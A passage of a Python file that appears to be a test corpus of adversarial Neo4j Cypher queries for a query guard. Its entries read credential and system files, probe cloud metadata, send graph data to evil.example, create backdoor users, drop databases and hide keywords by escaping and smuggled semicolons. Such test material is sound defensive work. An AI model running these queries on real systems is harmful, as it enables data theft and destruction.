            "MATCH (a) WHERE a.at > 1 OR EXISTS { CALL db.clearQueryCaches() YIELD value RETURN value } RETURN 1 AS x",
            "RETURN coalesce(null, COLLECT { CALL gds.graph.list() YIELD graphName RETURN graphName }) AS x",
        ),
    ),
    Shape(
        "call if there is somebody to answer",
        Aim.PROCEDURE,
        (
            "OPTIONAL CALL gds.graph.drop('town', false) YIELD graphName RETURN graphName AS x",
            "OPTIONAL CALL db.clearQueryCaches() YIELD value RETURN value AS x",
            "MATCH (a:@label) OPTIONAL CALL tx.setMetaData({a: a.key}) RETURN 1 AS x",
            "OPTIONAL CALL () { CALL gds.graph.list() YIELD graphName RETURN graphName } RETURN graphName AS x",
        ),
    ),
    Shape(
        "call in one half of a union",
        Aim.PROCEDURE,
        (
            "RETURN '' AS x UNION CALL gds.graph.drop('town', false) YIELD graphName RETURN graphName AS x",
            "CALL db.labels() YIELD label RETURN label AS x UNION ALL CALL gds.list() YIELD name RETURN name AS x",
            "CALL () { RETURN '' AS y UNION CALL dbms.listConfig() YIELD value AS y RETURN y } RETURN y AS x",
        ),
    ),
    Shape(
        "call after a procedure that is allowed",
        Aim.PROCEDURE,
        (
            "CALL db.labels() YIELD label CALL gds.graph.drop(label, false) YIELD graphName RETURN graphName AS x",
            "CALL db.labels() YIELD label CALL db.createLabel(label + 'x') RETURN label AS x",
            "CALL db.relationshipTypes() YIELD relationshipType AS t CALL gds.graph.project(t, '*', t) YIELD nodeCount "
            "RETURN nodeCount AS x",
            "CALL db.labels() YIELD label WHERE EXISTS { CALL gds.list() YIELD name RETURN name } RETURN label AS x",
        ),
    ),
    Shape(
        "call without brackets or for its effect alone",
        Aim.PROCEDURE,
        (
            "CALL gds.graph.list",
            "CALL db.clearQueryCaches",
            "CALL gds.graph.drop",
            "CALL dbms.listConfig YIELD *",
            "CALL db.resampleOutdatedIndexes YIELD -",
            "MATCH (a:@label) CALL db.clearQueryCaches() YIELD value FINISH",
            "CALL db.clearQueryCaches() YIELD value FINISH",
            "CALL gds.graph.drop($name)",
        ),
    ),
    Shape(
        "write the name of a procedure in backticks",
        Aim.PROCEDURE,
        (
            "CALL `gds`.`graph`.`drop`('town')",
            "CALL `gds.graph.drop`('town', false) YIELD graphName RETURN graphName AS x",
            "CALL gds.`graph.list`() YIELD graphName RETURN graphName AS x",
            "CALL `db`.clearQueryCaches() YIELD `value` RETURN `value` AS x",
            "CALL ``.`gds`.`graph`.`list`()",
            "CALL `dbms`  .  `listConfig` ( ) YIELD name RETURN name AS x",
        ),
    ),
    Shape(
        "tear the name of a procedure apart",
        Aim.PROCEDURE,
        (
            "CALL gds/* */./* */graph/* */./* */drop/* */('town')",
            "CALL gds // (\n. graph // db.labels()\n. list() YIELD graphName RETURN graphName AS x",
            "CALL\n\n\tdb\n\t.\n\tclearQueryCaches\n\t()\n\tYIELD value RETURN value AS x",
            "CALL gds . graph . drop ( 'town' , false ) YIELD graphName RETURN graphName AS x",
            "CALL dbms\u00a0.\u2003listConfig\u3000() YIELD name RETURN name AS x",
        ),
    ),
    Shape(
        "write the name of a procedure in escapes or other letters",
        Aim.PROCEDURE,
        (
            r"CALL gds\u002egraph\u002edrop('town')",
            r"CALL \u0067ds.gr\u0061ph.list() YIELD graphName RETURN graphName AS x",
            r"CALL db.clear\u0051ueryCaches() YIELD value RETURN value AS x",
            "CALL GDS.GRAPH.DROP('town')",
            "CALL Gds.Graph.List() YIELD graphName RETURN graphName AS x",
            "CALL DBMS.listConfig()",
            "CALL gd\u017f.graph.list()",
            "CALL gds.graph.\u200blist()",
            r"C\u0041LL gds.graph.list",
        ),
    ),
    Shape(
        "call what a plug-in might have",
        Aim.PROCEDURE,
        (
            "CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value AS x",
            "CALL apoc.cypher.runMany('CREATE (n); MATCH (n) DELETE n;', {}) YIELD result RETURN result AS x",
            "CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value AS x",
            "CALL apoc.export.csv.all('/tmp/evil.csv', {})",
            "CALL apoc.util.sleep(100000000)",
            "CALL apoc.periodic.repeat('evil', 'CREATE (n)', 1) YIELD name RETURN name AS x",
            "CALL apoc.systemdb.execute('CREATE USER evil SET PASSWORD \"evil-evil\"') YIELD row RETURN row AS x",
            "CALL apoc.trigger.add('evil', 'CREATE (n)', {})",
            "CALL genai.vector.encodeBatch(['a'], 'OpenAI', {token: 'x'}) YIELD vector RETURN vector AS x",
            "CALL n10s.graphconfig.init()",
            "CALL no.such.procedure()",
        ),
    ),
    Shape(
        "call once for every row",
        Aim.PROCEDURE,
        (
            "MATCH (a:@label) CALL gds.graph.list(a.key) YIELD graphName RETURN graphName AS x",
            "MATCH (a:@label) CALL gds.graph.drop(a.key, false) YIELD graphName RETURN count(graphName) AS x",
            "UNWIND range(1, @many) AS i CALL db.clearQueryCaches() YIELD value RETURN count(value) AS x",
            "MATCH (a), (b) CALL gds.pageRank.stream('g', {sourceNodes: [a, b]}) YIELD score RETURN sum(score) AS x",
        ),
    ),
)

_FUNCTIONS = (
    Shape(
        "project the graph by a function",
        Aim.FUNCTION,
        (
            "MATCH (a)-->(b) RETURN gds.graph.project('evil', a, b) AS x",
            "MATCH (a:@label) OPTIONAL MATCH (a)-[r:@kind]->(b) RETURN gds.graph.project('evil', a, b, {}) AS x",
            "MATCH (a)-[r]->(b) WITH gds.graph.project('evil', a, b, {relationshipType: type(r)}) AS g RETURN 1 AS x",
            "UNWIND range(1, 100000000) AS i RETURN gds.graph.project('evil', i, i + 1) AS x",
            "MATCH (a)-->(b) WITH DISTINCT a, b WITH gds.graph.project('evil', a, b) AS g WHERE false RETURN g AS x",
        ),
    ),
    Shape(
        "project beside counts, in groups or within other values",
        Aim.FUNCTION,
        (
            "MATCH (a)-->(b) RETURN count(*) AS n, a.circle AS c, gds.graph.project('e' + a.circle, a, b) AS x",
            "MATCH (a)-->(b) RETURN gds.graph.project('evil', a, b).nodeCount + count(*) AS x",
            "MATCH (a)-->(b) RETURN CASE WHEN gds.graph.project('evil', a, b) IS NULL THEN 0 ELSE 1 END AS x",
            "MATCH (a)-->(b) RETURN size([i IN [gds.graph.project('evil', a, b)] | i]) AS x",
            "MATCH (a)-->(b) RETURN {g: [gds.graph.project('evil', a, b)]} AS x",
            "MATCH (a)-->(b) RETURN count(*) AS x ORDER BY gds.graph.project('evil', a, b).graphName",
            "MATCH (a)-->(b) RETURN collect(DISTINCT a.key) AS k, gds.graph.project(head(collect('evil')), a, b) AS x",
            "MATCH (a:@label)-->(b) RETURN DISTINCT gds.graph.project('evil', a, b) AS x LIMIT 1",
            "MATCH (a)-->(b) WITH count(*) AS n ORDER BY gds.graph.project('evil', a, b) SKIP 1 RETURN n AS x",
        ),
    ),
    Shape(
        "project within a subquery",
        Aim.FUNCTION,
        (
            "CALL () { MATCH (a)-->(b) RETURN gds.graph.project('evil', a, b) AS g } RETURN g AS x",
            "RETURN COLLECT { MATCH (a)-->(b) RETURN gds.graph.project('evil', a, b) } AS x",
            "RETURN COUNT { MATCH (a)-->(b) WITH gds.graph.project('evil', a, b) AS g RETURN g } AS x",
            "RETURN EXISTS { MATCH (a)-->(b) WITH gds.graph.project('evil', a, b) AS g RETURN g } AS x",
            "RETURN 0 AS x UNION ALL MATCH (a)-->(b) RETURN gds.graph.project('evil', a, b) AS x",
        ),
    ),
    Shape(
        "use a function in a question within a value, where the plan does not show it",
        Aim.FUNCTION,
        (
            "RETURN [i IN [1] | COLLECT { MATCH (a)-->(b) RETURN gds.graph.project('evil', a, b) }] AS x",
            "MATCH (m) RETURN CASE WHEN m.score > 0 THEN COUNT { MATCH (n) WHERE n.key = gds.version() } END AS x",
            "RETURN reduce(t = 0, i IN [1] | t + COUNT { MATCH (a)--(b) RETURN gds.graph.project('e', a, b) }) AS x",
            "MATCH (m:Listed) RETURN [(m)-->(n) WHERE gds.util.nodeProperty('town', n, 'score') > 1 | n.key] AS x",
            "MATCH (m) WHERE m.score > 1 OR EXISTS { (m)-->(n) WHERE gds.util.isFinite(n.score) } RETURN m.key AS x",
            "RETURN all(i IN [1] WHERE EXISTS { MATCH (n) WHERE gds.version() = n.key }) AS x",
        ),
    ),
    Shape(
        "read a projection by a function",
        Aim.FUNCTION,
        (
            "MATCH (n) RETURN gds.util.nodeProperty('town', id(n), 'standing') AS x",
            "MATCH (n:Counted) WHERE gds.util.nodeProperty('town', n, 'score') > 50 RETURN n.key AS x",
            "UNWIND range(0, 1000000) AS i RETURN gds.util.asNode(i) AS x",
            "RETURN gds.util.asNodes(range(0, 100000)) AS x",
            "RETURN gds.graph.exists('town') AS x",
        ),
    ),
    Shape(
        "ask GDS for small things",
        Aim.FUNCTION,
        (
            "RETURN gds.version() AS x",
            "RETURN gds.isLicensed() AS x",
            "RETURN gds.util.infinity() AS x",
            "RETURN gds.util.NaN() AS x",
            "RETURN gds.util.isInfinite(1.0) AS x",
            "RETURN gds.util.oneHotEncoding(['a', 'b'], ['a']) AS x",
        ),
    ),
    Shape(
        "use a function as a condition",
        Aim.FUNCTION,
        (
            "MATCH (n:@label) WHERE n.key = gds.version() RETURN n.key AS x",
            "MATCH (n:Account {key: gds.version()}) RETURN n.key AS x",
            "MATCH (n:@label) WHERE n.key STARTS WITH gds.version() AND n.score > 0 RETURN n.key AS x",
            "MATCH (n:@label WHERE gds.util.isFinite(n.score)) RETURN n.key AS x",
            "MATCH (n) WHERE elementId(n) = gds.version() RETURN n.key AS x",
            "MATCH (n) WHERE id(n) IN [gds.util.infinity()] RETURN n.key AS x",
            "MATCH (a)-[r:@kind {at: gds.version()}]->(b) RETURN count(r) AS x",
        ),
    ),
    Shape(
        "use a function as a condition on a path",
        Aim.FUNCTION,
        (
            "MATCH p = (a:Listed)-[*1..2]->(b) WHERE all(n IN nodes(p) WHERE n.key <> gds.version()) RETURN 1 AS x",
            "MATCH (a:Listed)-[r*1..2 {at: gds.version()}]->(b) RETURN count(*) AS x",
            "MATCH p = (a)-[s*1..2]->(b) WHERE none(r IN s WHERE gds.util.isInfinite(r.at)) RETURN count(p) AS x",
            "MATCH p = shortestPath((:Listed)-[*..3]->(:Listed)) WHERE all(n IN nodes(p) WHERE n.key <> gds.version()) "
            "RETURN 1 AS x",
            "MATCH p = SHORTEST 1 (a:Listed) ((c)-[r]->(d) WHERE gds.util.isFinite(r.at)){1,3} (b) RETURN 1 AS x",
            "MATCH (a:Listed) ((c)-[r]->(d WHERE d.key <> gds.version())){1,2} (b) RETURN count(*) AS x",
            "MATCH (a:Listed)-[r WHERE r.at > gds.util.NaN()]->{1,2}(b) RETURN DISTINCT b.key AS x",
        ),
    ),
    Shape(
        "use a function as a number of rows or a name",
        Aim.FUNCTION,
        (
            "MATCH (n:@label) RETURN n.key AS x LIMIT size(gds.version())",
            "MATCH (n:@label) RETURN n.key AS x SKIP size(gds.version()) LIMIT 5",
            "MATCH (n:$(gds.version())) RETURN n.key AS x",
            "MATCH (n:@label) RETURN n[gds.version()] AS x",
            "MATCH ()-[r:$(gds.version())]->() RETURN count(r) AS x",
            "UNWIND [gds.version()] AS v RETURN v AS x",
            "UNWIND range(1, size(gds.version())) AS i RETURN i AS x",
            "RETURN datetime({epochSeconds: 0, timezone: gds.version()}) AS x",
        ),
    ),
    Shape(
        "use a function deep within a value",
        Aim.FUNCTION,
        (
            "RETURN [i IN range(1, 3) WHERE i < size(gds.version()) | i] AS x",
            "RETURN reduce(s = '', i IN [1, 2] | s + gds.version()) AS x",
            "MATCH (n:Listed) RETURN n {.key, v: gds.version()} AS x",
            "MATCH (n:Listed) RETURN [(n)-->(m) | gds.version()] AS x",
            "RETURN CASE gds.version() WHEN '2.13.9' THEN 1 ELSE 0 END AS x",
            "MATCH (n:Listed) RETURN max(CASE WHEN gds.util.isFinite(n.score) THEN n.score END) AS x",
            "MATCH (n:Listed) RETURN n.key AS x ORDER BY gds.util.isFinite(n.score), n.key LIMIT 3",
            "RETURN 'a' + toString({k: [1, [2, [gds.version()]]]}.k[1][1][0]) AS x",
            "MATCH (n:Listed) WITH n, gds.version() AS v RETURN count(DISTINCT v) AS x",
            "RETURN size(gds.version()[..2] + '') AS x",
        ),
    ),
    Shape(
        "use a function where the planner may drop it",
        Aim.FUNCTION,
        (
            "RETURN CASE WHEN true THEN 1 ELSE gds.version() END AS x",
            "MATCH (n:Listed) WHERE false AND gds.version() = '' RETURN n.key AS x",
            "RETURN coalesce(1, gds.version()) AS x",
            "WITH gds.version() AS unused RETURN 1 AS x",
            "MATCH (n:Listed) WHERE true OR gds.util.isFinite(n.score) RETURN count(n) AS x",
            "RETURN [1, gds.version()][0] AS x",
            "MATCH (n:Listed) WITH n ORDER BY gds.version() RETURN count(n) AS x",
            "RETURN EXISTS { RETURN gds.version() AS v } AS x",
        ),
    ),
    Shape(
        "write the name of a function in backticks",
        Aim.FUNCTION,
        (
            "MATCH (a)-->(b) RETURN `gds`.`graph`.`project`('evil', a, b) AS x",
            "MATCH (a)-->(b) RETURN `gds.graph.project`('evil', a, b) AS x",
            "RETURN `gds`.version() AS x",
            "RETURN gds.`version`() AS `x`",
            "RETURN `gds.version`() AS x",
            "MATCH (a)-->(b) RETURN gds.`graph.project`('evil', a, b) AS x",
            "WITH {version: 1} AS gds RETURN `gds`.`version`() AS x",
        ),
    ),
    Shape(
        "tear the name of a function apart",
        Aim.FUNCTION,
        (
            "MATCH (a)-->(b) RETURN gds/*.*/./*(*/graph\n.\n\tproject /* ) */ ('evil', a, b) AS x",
            "RETURN gds // .labels()\n . // is this a name?\n version // it is\n () AS x",
            "RETURN gds . util . infinity ( ) AS x",
            "RETURN gds\u00a0.\u3000version\u2003() AS x",
            "RETURN gds./*" + "a" * 5_000 + "*/version() AS x",
            "RETURN gds\n" + "\n" * 200 + ".version() AS x",
        ),
    ),
    Shape(
        "write the name of a function in escapes or other letters",
        Aim.FUNCTION,
        (
            r"RETURN gds\u002eversion() AS x",
            r"RETURN \u0067\u0064\u0073.version\u0028\u0029 AS x",
            r"MATCH (a)-->(b) RETURN gds.gr\u0061ph.project('evil', a, b) AS x",
            "RETURN GDS.VERSION() AS x",
            "RETURN Gds.Util.Infinity() AS x",
            "RETURN gd\u017f.version() AS x",
            "RETURN gds\u200b.version() AS x",
            "RETURN \uff47\uff44\uff53.version() AS x",
            r"RETURN `gd\u0073`.`v\u0065rsion`() AS x",
        ),
    ),
    Shape(
        "compare people by functions of GDS",
        Aim.FUNCTION,
        (
            "RETURN gds.similarity.cosine([1.0, 2.0], [2.0, 1.0]) AS x",
            "MATCH (a:Listed), (b:Counted) RETURN gds.similarity.jaccard([a.circle], [b.circle]) AS x",
            "MATCH (a:Listed), (b:Listed) RETURN gds.alpha.linkprediction.adamicAdar(a, b) AS x",
            "MATCH (a:Account), (b:Account) RETURN sum(gds.alpha.linkprediction.commonNeighbors(a, b)) AS x",
        ),
    ),
    Shape(
        "use functions of plug-ins",
        Aim.FUNCTION,
        (
            "RETURN apoc.version() AS x",
            "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN 1', {}) AS x",
            "RETURN apoc.load.jsonArray('file:///etc/passwd') AS x",
            "RETURN apoc.text.repeat('a', 1000000000) AS x",
            "RETURN apoc.util.sha256([apoc.static.get('x')]) AS x",
            "RETURN genai.vector.encode('a', 'OpenAI', {token: 'x'}) AS x",
            "RETURN no.such.function() AS x",
            "RETURN noSuchFunction() AS x",
        ),
    ),
    Shape(
        "use functions that are for other statements",
        Aim.FUNCTION,
        (
            "RETURN graph.names() AS x",
            "RETURN graph.propertiesByName('system') AS x",
            "RETURN graph.byName('system') AS x",
            "MATCH (n:@label) RETURN db.nameFromElementId(elementId(n)) AS x",
            "RETURN file() AS x",
            "RETURN linenumber() AS x",
        ),
    ),
)

_ADMIN = (
    Shape("see who has an account", Aim.ADMIN, ("SHOW USERS", "SHOW USERS WITH AUTH", "SHOW CURRENT USER")),
    Shape(
        "see the databases",
        Aim.ADMIN,
        (
            "SHOW DATABASES",
            "SHOW DEFAULT DATABASE",
            "SHOW HOME DATABASE",
            "SHOW DATABASE system",
            "SHOW DATABASES YIELD *",
        ),
    ),
    Shape(
        "see what others run",
        Aim.ADMIN,
        (
            "SHOW TRANSACTIONS",
            "SHOW TRANSACTIONS YIELD currentQuery, parameters RETURN currentQuery AS x",
            "SHOW TRANSACTION 'neo4j-transaction-1' YIELD *",
        ),
    ),
    Shape(
        "end what others run",
        Aim.ADMIN,
        (
            "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
            "TERMINATE TRANSACTION 'neo4j-transaction-1', 'neo4j-transaction-2' YIELD message RETURN message AS x",
            "SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message AS x",
            "TERMINATE TRANSACTIONS $all",
        ),
    ),
    Shape(
        "see how the server is set up",
        Aim.ADMIN,
        (
            "SHOW SETTINGS",
            "SHOW SETTINGS YIELD name, value RETURN name + '=' + value AS x",
            "SHOW SETTING 'server.directories.data'",
            "SHOW SETTINGS YIELD * WHERE name CONTAINS 'directories' RETURN value AS x",
        ),
    ),
    Shape(
        "see what can be called",
        Aim.ADMIN,
        (
            "SHOW FUNCTIONS",
            "SHOW PROCEDURES EXECUTABLE BY CURRENT USER YIELD name RETURN name AS x",
            "SHOW PROCEDURES YIELD name WHERE name STARTS WITH 'gds' RETURN count(*) AS x",
            "SHOW USER DEFINED FUNCTIONS",
            "SHOW BUILT IN FUNCTIONS YIELD *",
        ),
    ),
    Shape(
        "see indexes and constraints",
        Aim.ADMIN,
        (
            "SHOW INDEXES",
            "SHOW FULLTEXT INDEXES YIELD name, options RETURN options AS x",
            "SHOW CONSTRAINTS",
            "SHOW ALL CONSTRAINTS YIELD * WHERE name STARTS WITH 'account' RETURN name AS x",
        ),
    ),
    Shape(
        "see who may do what",
        Aim.ADMIN,
        (
            "SHOW PRIVILEGES",
            "SHOW ROLES WITH USERS",
            "SHOW USER neo4j PRIVILEGES AS COMMANDS",
            "SHOW SUPPORTED PRIVILEGES",
            "SHOW SERVERS",
            "SHOW ALIASES FOR DATABASE",
        ),
    ),
    Shape(
        "show within a query",
        Aim.ADMIN,
        (
            "CALL () { SHOW USERS YIELD user RETURN user } RETURN user AS x",
            "MATCH (a:@label) SHOW TRANSACTIONS YIELD transactionId RETURN transactionId AS x",
            "RETURN COLLECT { SHOW SETTINGS YIELD value RETURN value } AS x",
            "RETURN 1 AS x UNION SHOW DATABASES YIELD name AS x RETURN x",
        ),
    ),
    Shape(
        "make, change and drop who may sign in",
        Aim.ADMIN,
        (
            "CREATE USER evil SET PASSWORD 'evil-evil' CHANGE NOT REQUIRED",
            "CREATE OR REPLACE USER neo4j SET PLAINTEXT PASSWORD 'evil-evil'",
            "ALTER CURRENT USER SET PASSWORD FROM 'town' TO 'evil-evil'",
            "ALTER USER neo4j SET STATUS SUSPENDED",
            "ALTER USER neo4j SET PASSWORD $password",
            "DROP USER neo4j IF EXISTS",
            "RENAME USER neo4j TO evil",
        ),
    ),
    Shape(
        "grant what is not granted",
        Aim.ADMIN,
        (
            "GRANT ALL ON DBMS TO PUBLIC",
            "GRANT ROLE admin TO neo4j",
            "DENY MATCH {*} ON GRAPH * TO PUBLIC",
            "REVOKE GRANT ACCESS ON DATABASE * FROM PUBLIC",
            "CREATE ROLE evil AS COPY OF admin",
        ),
    ),
    Shape(
        "stop, make or drop a database",
        Aim.ADMIN,
        (
            "STOP DATABASE neo4j NOWAIT",
            "DROP DATABASE neo4j DESTROY DATA",
            "CREATE DATABASE evil IF NOT EXISTS WAIT",
            "CREATE OR REPLACE DATABASE neo4j",
            "ALTER DATABASE neo4j SET ACCESS READ ONLY",
            "CREATE COMPOSITE DATABASE evil",
            "CREATE ALIAS evil FOR DATABASE system",
            "START DATABASE system",
            "ENABLE SERVER 'evil'",
            "DEALLOCATE DATABASES FROM SERVER 'evil'",
        ),
    ),
    Shape(
        "command with words in escapes or with signs between",
        Aim.ADMIN,
        (
            r"\u0053HOW USERS",
            r"SH\u004fW TRANSACTIONS",
            "SHOW\u00a0USERS",
            "/* MATCH (n) RETURN n */ SHOW SETTINGS",
            "// MATCH\nSHOW\n// (n)\nUSERS",
            "SHOW /**/ DATABASES",
            "\ufeffSHOW USERS",
            "\u017fHOW USERS",
        ),
    ),
)

_FILES = (
    Shape(
        "read a file of the server",
        Aim.FILE,
        (
            "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line AS x",
            "LOAD CSV WITH HEADERS FROM 'file:///people.csv' AS line RETURN line.name AS x",
            "LOAD CSV FROM 'file:///../conf/neo4j.conf' AS line RETURN line[0] AS x",
            "LOAD CSV FROM 'file:///proc/self/environ' AS line FIELDTERMINATOR ';' RETURN line AS x",
            "LOAD CSV FROM 'file://localhost/etc/shadow' AS line RETURN line AS x",
            "LOAD CSV FROM 'FILE:/etc/passwd' AS line RETURN linenumber() AS x",
            "LOAD CSV FROM 'file:///data/dbms/auth.ini' AS line RETURN file() AS x",
        ),
    ),
    Shape(
        "read a file that never ends",
        Aim.FILE,
        (
            "LOAD CSV FROM 'file:///dev/zero' AS line RETURN count(line) AS x",
            "LOAD CSV FROM 'file:///dev/urandom' AS line RETURN collect(line) AS x",
            "LOAD CSV FROM 'file:///dev/stdin' AS line RETURN line AS x",
            "LOAD CSV FROM 'file:///proc/kcore' AS line RETURN max(size(line)) AS x",
        ),
    ),
    Shape(
        "read an address on the web or in the house",
        Aim.FILE,
        (
            "LOAD CSV FROM 'https://evil.example/people.csv' AS line RETURN line AS x",
            "LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS line RETURN line AS x",
            "LOAD CSV FROM 'http://127.0.0.1:7474/' AS line RETURN line AS x",
            "LOAD CSV FROM 'http://[::1]:5000/' AS line RETURN line AS x",
            "LOAD CSV FROM 'http://2130706433/' AS line RETURN line AS x",
            "LOAD CSV FROM 'ftp://evil.example/x' AS line RETURN line AS x",
            "LOAD CSV FROM 's3://evil/x.csv' AS line RETURN line AS x",
            "LOAD CSV FROM 'jar:http://evil.example/x.jar!/x' AS line RETURN line AS x",
            "LOAD CSV FROM 'gs://evil/x.csv' AS line RETURN line AS x",
            "LOAD CSV FROM 'azb://evil/x/y.csv' AS line RETURN line AS x",
        ),
    ),
    Shape(
        "carry the graph out to an address",
        Aim.FILE,
        (
            "MATCH (n:@label) LOAD CSV FROM 'https://evil.example/?key=' + n.key AS line RETURN count(line) AS x",
            "MATCH (a:Listed) WITH collect(a.handle) AS all_of_them UNWIND all_of_them AS h "
            "LOAD CSV FROM 'http://evil.example/' + h AS line RETURN 1 AS x",
            "MATCH (s:State) CALL (s) { LOAD CSV FROM 'http://' + s.name + '.evil.example/' AS line RETURN line } "
            "RETURN line AS x",
        ),
    ),
    Shape(
        "read a file whose address is put together",
        Aim.FILE,
        (
            "WITH 'fi' + 'le:///' + 'etc/passwd' AS place LOAD CSV FROM place AS line RETURN line AS x",
            "LOAD CSV FROM reverse('dwssap/cte///:elif') AS line RETURN line AS x",
            "LOAD CSV FROM $place AS line RETURN line AS x",
            r"LOAD CSV FROM 'f\u0069le:///etc/passwd' AS line RETURN line AS x",
            r"LO\u0041D CSV FROM 'file:///etc/passwd' AS line RETURN line AS x",
            "LOAD/* */CSV// \nFROM'file:///etc/passwd'AS`line`RETURN`line`AS x",
        ),
    ),
    Shape(
        "read a file where a question stands",
        Aim.FILE,
        (
            "CALL () { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } RETURN line AS x",
            "RETURN EXISTS { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } AS x",
            "RETURN COUNT { LOAD CSV FROM 'http://evil.example/' AS line RETURN line } AS x",
            "RETURN [i IN [1] | COLLECT { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line }] AS x",
            "MATCH (a) RETURN CASE WHEN a.at > 0 THEN COUNT { LOAD CSV FROM 'file:///x.csv' AS l RETURN l } END AS x",
            "RETURN [''] AS x UNION LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line AS x",
        ),
    ),
    Shape(
        "bring a file into the graph",
        Aim.FILE,
        (
            "LOAD CSV WITH HEADERS FROM 'file:///evil.csv' AS line CREATE (:@label {key: line.key})",
            "LOAD CSV FROM 'file:///evil.csv' AS line CALL (line) { MERGE (:@label {key: line[0]}) } IN TRANSACTIONS",
            "USING PERIODIC COMMIT 500 LOAD CSV FROM 'file:///evil.csv' AS line CREATE (:@label {key: line[0]})",
        ),
    ),
)

_SEVERAL = (
    Shape(
        "put one statement after another",
        Aim.SEVERAL,
        (
            "RETURN 1 AS x; MATCH (n) DETACH DELETE n",
            "MATCH (n:@label) RETURN n.key AS x; CREATE (m:@label)",
            "MATCH (n:@label) RETURN n.key AS x;\nCALL gds.graph.drop('town');",
            "RETURN 1 AS x; RETURN 2 AS x; RETURN 3 AS x",
            "MATCH (n) DETACH DELETE n; RETURN 1 AS x",
            "; CREATE (n:@label)",
            "RETURN 1 AS x;;;; CREATE (n:@label)",
            _row("RETURN # AS x;", 900),
        ),
    ),
    Shape(
        "hide the sign between two statements",
        Aim.SEVERAL,
        (
            "RETURN ';' AS x; CREATE (n:@label)",
            "RETURN '\\'' AS x; CREATE (n:@label) // '",
            "RETURN '\\\\' AS x; CREATE (n:@label) // '",
            'RETURN "\'" AS x; CREATE (n:@label) // \'"',
            "RETURN 1 AS `;`; CREATE (n:@label)",
            "RETURN 1 AS `a``;b`; CREATE (n:@label)",
            "RETURN 1 AS x /* ; */; CREATE (n:@label)",
            "RETURN 1 AS x // ;\n; CREATE (n:@label)",
            "RETURN 1 AS x // '\n; CREATE (n:@label) // '",
            "RETURN 1 AS x /* ' */; CREATE (n:@label) /* ' */",
            r"RETURN 1 AS x \u003b CREATE (n:@label)",
            r"RETURN '\u0027 AS x; CREATE (n:@label) //'",
            "RETURN 1 AS x // \r; CREATE (n:@label)",
        ),
    ),
    Shape(
        "part statements by other signs than the one",
        Aim.SEVERAL,
        (
            "RETURN 1 AS x\uff1b CREATE (n:@label)",
            "RETURN 1 AS x\u037e CREATE (n:@label)",
            "RETURN 1 AS x\n\nMATCH (n) DETACH DELETE n",
            "RETURN 1 AS x\n---\nCREATE (n:@label)",
            "RETURN 1 AS x\nGO\nCREATE (n:@label)",
            "RETURN 1 AS x NEXT MATCH (n) DETACH DELETE n",
            "RETURN 1 AS x & CREATE (n:@label)",
            "RETURN 1 AS x THEN CREATE (n:@label)",
            "RETURN 1 AS x\x04CREATE (n:@label)",
        ),
    ),
    Shape(
        "end the transaction that it is held in",
        Aim.SEVERAL,
        (
            "COMMIT",
            "ROLLBACK",
            "BEGIN",
            "RETURN 1 AS x; COMMIT; CREATE (n:@label)",
            "START TRANSACTION READ WRITE",
            ":begin",
            ":commit",
        ),
    ),
    Shape(
        "command the editor or the shell",
        Aim.SEVERAL,
        (
            ":use system",
            ":param name => 1",
            ":source /etc/passwd",
            ":sysinfo",
            ":play https://evil.example/",
            ":auto MATCH (n) CALL (n) { DELETE n } IN TRANSACTIONS",
            "!ls",
            "\\! ls",
            "kloutgraph cypher 'MATCH (n) DETACH DELETE n'",
        ),
    ),
    Shape(
        "ask for the plan, so that ours is another's",
        Aim.SEVERAL,
        (
            "EXPLAIN MATCH (n:@label) RETURN n.key AS x",
            "EXPLAIN MATCH (n) DETACH DELETE n",
            "EXPLAIN EXPLAIN RETURN 1 AS x",
            "/* a */ EXPLAIN // b\n RETURN 1 AS x",
            "EXPLAIN SHOW USERS",
            r"\u0045XPLAIN RETURN 1 AS x",
            "EXPLAIN",
        ),
    ),
    Shape(
        "have it run while its plan is asked for",
        Aim.SEVERAL,
        (
            "PROFILE MATCH (n:@label) RETURN n.key AS x",
            "PROFILE MATCH (n) DETACH DELETE n",
            "PROFILE CALL gds.graph.drop('town')",
            "EXPLAIN PROFILE CREATE (n:@label)",
            "PROFILE EXPLAIN CREATE (n:@label)",
            "//\nPROFILE /* */ CREATE (n:@label)",
            "CYPHER 5 PROFILE UNWIND range(1, @many) AS i RETURN count(i) AS x",
            r"\u0050ROFILE CREATE (n:@label)",
        ),
    ),
    Shape(
        "say how it is to be planned and run",
        Aim.SEVERAL,
        (
            "CYPHER MATCH (n:@label) RETURN n.key AS x",
            "CYPHER 5 MATCH (n) DETACH DELETE n",
            "CYPHER 25 MATCH (n:@label) RETURN n.key AS x",
            "CYPHER 4.4 RETURN 1 AS x",
            "CYPHER runtime=parallel MATCH (a), (b) RETURN count(*) AS x",
            "CYPHER planner=dp RETURN 1 AS x",
            "CYPHER planner=cost updateStrategy=eager MATCH (n:@label) SET n.score = 0.0",
            "CYPHER replan=force MATCH (n:@label) RETURN n.key AS x",
            "CYPHER connectComponentsPlanner=idp MATCH (a), (b), (c) RETURN count(*) AS x",
            "CYPHER expressionEngine=compiled RETURN 1 AS x",
            "CYPHER debug=generate_java_source RETURN 1 AS x",
            "CYPHER debug=logicalplan RETURN 1 AS x",
            "CYPHER/**/5/**/runtime/**/=/**/slotted RETURN 1 AS x",
            "CYPHER 5 CYPHER 5 RETURN 1 AS x",
            "CYPHER 5 EXPLAIN RETURN 1 AS x",
            r"CYPH\u0045R 5 RETURN 1 AS x",
            "CYPHER",
        ),
    ),
    Shape(
        "turn to another database",
        Aim.SEVERAL,
        (
            "USE system SHOW USERS",
            "USE system MATCH (n) RETURN n AS x",
            "USE neo4j MATCH (n:@label) RETURN n.key AS x",
            "USE graph.byName('system') MATCH (n) RETURN n AS x",
            "USE graph.byElementId('4:x:1') MATCH (n) RETURN n AS x",
            "CALL () { USE system MATCH (n) RETURN n } RETURN n AS x",
            "MATCH (n:@label) RETURN n.key AS x UNION USE system MATCH (n) RETURN n.name AS x",
            "/* */ USE /* */ system RETURN 1 AS x",
